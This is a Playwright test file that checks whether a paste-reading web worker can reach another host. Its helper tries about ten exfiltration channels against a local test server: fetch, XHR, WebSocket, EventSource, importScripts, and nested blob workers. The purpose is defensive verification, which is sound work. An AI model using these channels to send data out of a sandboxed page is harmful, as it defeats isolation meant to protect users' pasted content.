import type { Worker } from 'playwright/test';
import { openExplainer } from './support/explainer';
import { notInGroup } from './support/pastes';
import { startStranger } from './support/stranger';
import { expect, testAlone as test } from './support/test';

/** Tries every way in which a worker can send something to another host. */
const leak = (worker: Worker, address: string) =>
  worker.evaluate(async (to) => {
    const ended = (target: EventTarget) =>
      new Promise<void>((done) => {
        for (const kind of ['open', 'load', 'error', 'message']) target.addEventListener(kind, () => done());
        setTimeout(done, 1000);
      });
    const blob = (script: string) => URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
    const request = () => {
      const asked = new XMLHttpRequest();
      asked.open('GET', `${to}/xhr`);
      asked.send();
      return ended(asked);
    };
    const attempts: (() => unknown)[] = [
      () => fetch(`${to}/fetch`, { mode: 'no-cors' }),
      () => request(),
      () => import(/* @vite-ignore */ `${to}/import`),
      () => ended(new WebSocket(`${to.replace('http', 'ws')}/socket`)),
      () => ended(new EventSource(`${to}/events`)),
      () => importScripts(`${to}/scripts`),
      () => ended(new Worker(`${to}/worker`)),
      () => ended(new Worker(blob(`importScripts('${to}/nested-scripts')`))),
      () => ended(new Worker(blob(`fetch('${to}/nested-fetch', { mode: 'no-cors' }).finally(() => postMessage(0))`))),
      () => ended(new Worker(blob(`import '${to}/nested-import'`), { type: 'module' })),
    ];
    for (const attempt of attempts) {
      try {
        await attempt();
      } catch {
        // A refusal is expected. The visits that the other server has recorded decide.
      }
    }
  }, address);

test.describe('the worker that reads every paste', () => {
  test.use({ expectedNoise: [/./] });

  test('sends nothing to another host, even if the server sends no policy header', async ({ page }) => {
    const stranger = await startStranger();
    const started = page.waitForEvent('worker');
    const { box, card } = await openExplainer(page, 'zh');
    await box.fill(notInGroup);
    await expect(card).toBeVisible();
    await leak(await started, stranger.address);
    expect(stranger.visits).toEqual([]);
    stranger.close();
  });

  test('would send data to another host without the policy', async ({ page }) => {
    const stranger = await startStranger();
    await page.goto(`${stranger.address}/page`);
    const started = page.waitForEvent('worker');
    await page.evaluate(() => void new Worker(URL.createObjectURL(new Blob(['0']))));
    await leak(await started, stranger.address);
    const ways = ['fetch', 'xhr', 'events', 'scripts', 'worker', 'nested-scripts', 'nested-fetch', 'nested-import'];
    expect(stranger.visits).toEqual(expect.arrayContaining(ways.map((way) => `/${way}`)));
    expect(stranger.visits).toContain('/socket');
    stranger.close();
  });
});
